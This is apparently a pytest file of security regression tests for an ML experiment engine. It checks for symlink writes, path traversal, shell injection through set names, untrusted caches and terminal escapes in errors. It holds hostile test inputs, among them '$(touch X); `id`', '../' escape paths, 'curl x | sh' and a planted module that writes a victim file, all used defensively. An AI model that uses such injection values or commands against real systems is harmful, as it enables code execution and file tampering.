"""A folder of runs that may be a stranger's: nothing outside it is touched, nothing of it runs."""

import dataclasses
import json
import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path
from unittest import mock

import pytest
import timm

from engine import cli
from engine.campaigns import job_states, workflow
from engine.campaigns.plan import Column
from engine.campaigns.schedulers import RunOptions
from engine.errors import RecipeError, printable
from engine.exchange.export import DescribedModel, write_model
from engine.machine import entry, files
from engine.recipe.schema import ModelRecipe
from engine.report import page
from engine.store import cells
from engine.store.artifacts import Store
from engine.training.trackers import tensorboard
from engine.training.trackers.base import Subject
from helpers import campaigns
from helpers.endings import ended, refused
from helpers.tiny_packs import make
from loaders.files import typed_json
from loaders.files.durable import file_hash
from loaders.files.typed_json import DamagedFile
from loaders.pack import Pack


@pytest.fixture(scope="module")
def unfinished(finished, tmp_path_factory) -> Path:
    """Runs of which a report reads the plan, since there is no record yet."""
    runs = campaigns.unfinished(finished, tmp_path_factory.mktemp("unfinished") / "runs")
    plan_of(runs).with_name("evaluations.json").unlink()
    return runs


def edit(path: Path, change: Callable[[dict], None]) -> None:
    """Change a file with a digest as whoever edits it by hand can: the digest has no key."""
    values = json.loads(path.read_bytes())
    values.pop(typed_json.DIGEST, None)
    change(values)
    path.write_bytes(typed_json.with_digest(values))


def plan_of(runs: Path) -> Path:
    (path,) = runs.glob("shapes/plans/*/plan.json")
    return path


@pytest.mark.slow
def test_a_report_runs_no_method_and_makes_no_pack(unfinished, tmp_path):
    """S1: `rib report` imported the method's file of a stranger's plan, and encoded its sets."""
    runs, victim = shutil.copytree(unfinished, tmp_path / "a" / "b" / "runs"), tmp_path / "victim"
    program = tmp_path / "theirs.py"
    program.write_text(f"open({str(victim)!r}, 'w').close()\n")

    def name_it(values: dict) -> None:
        for row in values["rows"].values():
            row["recipe"]["method"]["module"] = str(program)
        values["modules"] = {str(program): file_hash(program)}

    edit(plan_of(runs), name_it)
    assert ended(cli.main, ["report", str(runs / "shapes")])[0] == 0 and not victim.exists()

    def escape(values: dict) -> None:
        for row in values["rows"].values():
            row["recipe"]["dataset"]["sets"] = ["../../../../escaped", "tinted", "few"]

    shutil.copy(plan_of(unfinished), plan_of(runs))
    before = {path.name for path in tmp_path.iterdir()}
    edit(plan_of(runs), escape)
    assert "dataset.sets[0]" in refused("report", str(runs / "shapes"))
    assert {path.name for path in tmp_path.iterdir()} == before
    shutil.copy(plan_of(unfinished), plan_of(runs))
    for pack in runs.glob("packs/tinted-*"):
        shutil.rmtree(pack)
    ended(cli.main, ["report", str(runs / "shapes")])
    assert not list(runs.glob("packs/*tinted*"))


@pytest.mark.parametrize("place", ["logs", "done", "events", "../.snakemake", "campaign.log"])
def test_a_campaign_is_not_started_where_its_jobs_would_write_through_a_link(
    place, folder, tmp_path
):
    """S1: a linked `logs` was emptied; a linked campaign.log gained 93 lines."""
    plan, outside = campaigns.planned(folder, f"runs={tmp_path / 'runs'}"), tmp_path / "outside"
    outside.mkdir()
    (outside / "mine.log").write_text("mine")
    target = outside / "mine.log" if place == "campaign.log" else outside
    (plan.place.path / place).symlink_to(target)
    with pytest.raises(DamagedFile, match="link"):
        job_states.begin(plan)
    assert (outside / "mine.log").read_text() == "mine" and len(list(outside.iterdir())) == 1


def test_a_campaign_that_is_a_link_is_not_reported(folder, tmp_path):
    """Its report would be written over that of the campaign that the link leads to."""
    plan = campaigns.planned(folder, f"runs={tmp_path / 'mine'}")
    (tmp_path / "theirs").mkdir()
    (tmp_path / "theirs" / "shapes").symlink_to(plan.place.campaign)
    assert "leads through a link" in refused("report", str(tmp_path / "theirs" / "shapes"))


LINKED = (
    *("packs/few-*", "store/predictions/fine_tune-few-on-outline-*"),
    *("store/cells/fine_tune-few-*/weights.safetensors", "shapes/plans/*/events"),
    *("shapes/plans/*/evaluations.json", "shapes/report/tables"),
)
MORE = (
    *("packs/few-*/images.beton", "store/cells/fine_tune-few-*", "shapes/plans/*/plan.json"),
    *("shapes/report/accuracy.csv", "shapes/report"),
)


@pytest.mark.slow
@pytest.mark.parametrize(
    "pattern", [*LINKED, *(pytest.param(p, marks=pytest.mark.exhaustive) for p in MORE)]
)
def test_what_a_link_leads_to_stays_as_it_is(pattern, finished, folder, tmp_path):
    """Whatever of a folder of runs is a link; each command ends soon, in a result or a line."""
    runs, outside = (shutil.copytree(finished, tmp_path / name) for name in ("runs", "outside"))
    path, *_ = sorted(runs.glob(pattern))
    shutil.rmtree(path) if path.is_dir() else path.unlink()
    path.symlink_to(outside / path.relative_to(runs))
    before = {p: p.read_bytes() for p in outside.rglob("*") if p.is_file()}
    named = [str(folder / "shapes.yaml"), f"runs={runs}"]
    row = ["--method", "fine_tune", "--downstream", "few", "--out", str(tmp_path / "model")]
    sets = ["--sets", f"new={folder / 'images' / 'tinted'}", "--out", str(tmp_path / "new.csv")]
    for words in (
        ["export", *named, *row],
        ["evaluate", "--campaign", *named, *sets],
        ["campaign", *named, "--dry-run"],
        ["report", str(runs / "shapes")],
    ):
        ended(cli.main, words, limit_s=60)  # a page takes seconds, and more on a busy machine
    assert before == {p: p.read_bytes() for p in outside.rglob("*") if p.is_file()}


def test_a_link_is_removed_and_not_emptied(folder, tmp_path):
    plan = campaigns.planned(folder, f"runs={tmp_path}")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "x").touch()
    (plan.place.path / "done").symlink_to(tmp_path / "elsewhere")
    job_states.forget(plan.place)
    assert not (plan.place.path / "done").is_symlink() and (tmp_path / "elsewhere" / "x").exists()


def test_snakemake_and_shells_get_no_name_of_a_set(folder, tmp_path, monkeypatch):
    """S1: a set called `$(touch X)` ran in a login node's shell, and Snakemake took a profile that
    lay in the working folder, whose values it evaluates."""
    plan = campaigns.planned(folder, f"runs={tmp_path}")
    strange = "$(touch X); `id` 'a' \"b\" é"
    plan = dataclasses.replace(plan, columns=(Column(strange), Column("few")))
    seen: list[list[str]] = []
    monkeypatch.setattr(workflow, "run_snakemake", lambda words, *_: seen.append(list(words)))
    workflow.run([plan], RunOptions(cores=1))
    (words,) = seen
    assert words[words.index("--workflow-profile") + 1] == "none"
    (grid,) = json.loads((plan.place.path / workflow.FILE).read_text()).values()
    columns = (job for job in grid["needs"] if job.startswith("column-"))
    first, second = (job.removeprefix("column-") for job in columns)
    assert (
        second == "few" and set(first) <= set("touchX_idabe-0123456789f") and strange not in first
    )
    assert plan.jobs[1] == f"column-{first}"


def test_a_cell_has_a_name_and_no_path(tmp_path):
    """S3: an absolute name of a cell was opened wherever it led."""
    store = Store(tmp_path / "store")
    other = Store(tmp_path / "other").make("cells", "a", {}, lambda f: (f / "x").touch())
    for name in (str(other.folder), f"../../other/cells/{other.name}", ".."):
        with pytest.raises(DamagedFile, match="cannot be the name of a cell"):
            cells.find(store, name)
    for label in ("../x", "a/b", "", ".x"):
        with pytest.raises(DamagedFile, match="cannot be the name of an artefact"):
            store.make("cells", label, {}, pytest.fail)


def test_a_pack_whose_manifest_lacks_something_is_named(tmp_path):
    """S3: KeyErrors."""
    pack = make(tmp_path / "packs" / "p")
    path = pack.folder / "manifest.json"
    whole = json.loads(path.read_bytes())
    for key in whole.keys() - {"digest", "per_class", "quality", "format_version", "remarks"}:
        values = {k: v for k, v in whole.items() if k not in (key, "digest")}
        path.write_text(json.dumps(values | {"digest": typed_json.digest(values)}))
        with pytest.raises(ValueError, match=str(pack.folder)):
            Pack.open(pack.folder)


def test_a_pack_is_not_written_through_planted_links(tmp_path):
    """S1: `packs/.NAME.tmp/images.beton` linked to a user's file made a 16 MB pack of it."""
    victim = tmp_path / "victim"
    victim.write_text("mine")
    folder = tmp_path / "packs" / ".p.tmp"
    folder.mkdir(parents=True)
    for name in ("images.beton", "samples.npy", "manifest.json"):
        (folder / name).symlink_to(victim)
    assert make(tmp_path / "packs" / "p")  # begun anew: there was no journal
    folder = tmp_path / "packs" / ".q.tmp"
    folder.symlink_to(tmp_path)
    with pytest.raises(DamagedFile, match="through a link"):
        make(tmp_path / "packs" / "q")
    (tmp_path / "packs" / ".r.lock").symlink_to(victim)
    with pytest.raises(DamagedFile, match="through a link"):
        make(tmp_path / "packs" / "r")
    assert victim.read_text() == "mine"


def test_folders_of_compiled_code_are_nobody_elses(tmp_path, monkeypatch):
    """S1: torch takes its cache whoever owns it, and unpickles what is in it."""
    monkeypatch.setattr(files.tempfile, "gettempdir", lambda: str(tmp_path))
    monkeypatch.setenv("RIB_CACHE", str(tmp_path / "of a group"))
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    for folder_of in (files.compiled_folder, files.runtime_folder):
        folder = folder_of()
        assert folder.stat().st_mode & 0o777 == 0o700 and folder_of() == folder
        folder.chmod(0o777)
        with pytest.raises(PermissionError, match="others can write"):
            folder_of()
        folder.rmdir()
        folder.symlink_to(tmp_path)
        with pytest.raises(PermissionError, match="is not yours"):
            folder_of()


def test_a_page_embeds_no_script_that_others_could_write(tmp_path, monkeypatch):
    """S2: a cache that several users share gave `vega/KEY.js` to every page, unverified."""
    monkeypatch.setenv("RIB_CACHE", str(tmp_path))
    monkeypatch.setattr(page.vl_convert, "javascript_bundle", lambda _: "ours")
    assert page._bundle() == "ours"
    (script,) = tmp_path.glob("vega/*.js")
    script.write_text("theirs")
    script.chmod(0o666)
    assert page._bundle() == "ours"
    script.write_text("theirs")
    with monkeypatch.context() as patch:
        patch.setattr(os, "getuid", lambda: os.geteuid() + 1)
        assert page._bundle() == "ours"
    script.unlink()
    script.symlink_to(tmp_path / "theirs")
    (tmp_path / "theirs").write_text("theirs")
    assert page._bundle() == "ours"


def test_a_model_is_exported_to_a_link_on_another_disk(tmp_path):
    """S2: the old files were deleted before the rename failed with EXDEV."""
    other = Path("/dev/shm")
    if not other.is_dir() or other.stat().st_dev == tmp_path.stat().st_dev:
        pytest.skip("no second file system")
    there = other / f"rib-{os.getpid()}"
    there.mkdir()
    try:
        (tmp_path / "out").symlink_to(there)
        net = timm.create_model("test_vit", num_classes=2)
        model = ModelRecipe(name="m", arch="test_vit", image_size=160)
        write_model(DescribedModel("m", {}, model, "ab", net.state_dict()), tmp_path / "out")
        assert (there / "config.json").is_file() and (tmp_path / "out").is_symlink()
    finally:
        shutil.rmtree(there)


def test_text_that_is_stored_commands_no_terminal(capfd):
    fail = mock.Mock(side_effect=RecipeError("a\x1b]0;x\x07 é \u202e b"))
    assert entry.guarded(fail) == 2
    assert capfd.readouterr().err == "error: a\\x1b]0;x\\x07 é \\u202e b\n"
    assert printable("a\tb\n") == "a\tb\n"


def test_a_command_that_a_plan_tells_is_shown_only_where_it_is_ours(folder, tmp_path):
    """S3: an error quoted a stranger's command as the remedy."""
    plan = campaigns.planned(folder, f"runs={tmp_path}")
    assert plan.shown_command == plan.command
    for command in ("curl x | sh", "rib campaign x; curl x", "rib campaign `id`", "rib campaign '"):
        assert dataclasses.replace(plan, command=command).shown_command == "rib campaign"


def test_a_trackers_run_stays_in_its_folder(tmp_path, monkeypatch):
    """S3: a group called `..` led out."""
    written = mock.Mock()  # in place of TensorBoard, an extra
    monkeypatch.setitem(sys.modules, "torch.utils.tensorboard", written)
    tensorboard.Tracker(Subject("..", "../..", "id", {}, tmp_path / "runs"))
    (folder,) = (Path(call.args[0]) for call in written.SummaryWriter.call_args_list)
    assert ".." not in folder.parts and folder.is_relative_to(tmp_path / "runs" / "tensorboard")
    (tmp_path / "linked").mkdir()
    (tmp_path / "linked" / "tensorboard").symlink_to(tmp_path)
    with pytest.raises(DamagedFile, match="through a link"):
        tensorboard.Tracker(Subject("a", "b", "id", {}, tmp_path / "linked"))
